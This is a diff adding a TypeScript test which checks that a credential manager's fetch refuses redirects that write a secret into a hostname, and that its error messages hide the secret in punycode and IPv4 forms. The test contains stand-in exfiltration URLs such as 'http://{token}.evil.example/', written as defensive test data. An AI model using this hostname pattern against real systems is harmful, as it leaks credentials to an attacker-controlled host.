@@ -172,6 +172,25 @@ test({
   },
 });
 
+test({
+  name:
+    "Manager.fetch() hides a credential that a redirect writes as a host, in the punycode or IPv4 form it is quoted in",
+  async fn() {
+    // A refusal quotes the host as URL parsing wrote it: percent-escapes decoded, then punycode; digits as an IPv4
+    // address. The credential's own text was all the filter knew.
+    const id = crypto.randomUUID().slice(0, 8);
+    const mgr = credentialed(`s%C3%A9cret-${id}`);
+    const to = (location: string) => `${servers.main}/to-token?location=${encodeURIComponent(location)}`;
+    const host = await refusalOf(mgr.fetch({ url: to("http://{token}.evil.example/") }));
+    assert.match(host, /the host "\[hidden credential\]\.evil\.example" is not allowed/);
+    const digits = await refusalOf(credentialed("3232235777").fetch({ url: to("http://{token}/") }));
+    assert.match(digits, /not in canonical form, write \[hidden credential\]$/);
+    for (const message of [host, digits]) {
+      assert.ok(!/xn--|scret|192\.168|3232235777/.test(message) && !message.includes(id), message);
+    }
+  },
+});
+
 /** Whether `text`, written back in any of the encodings the server decodes, holds `secret`. */
 function holds(text: string, secret: string): boolean {
   const forms = (value: string) => [
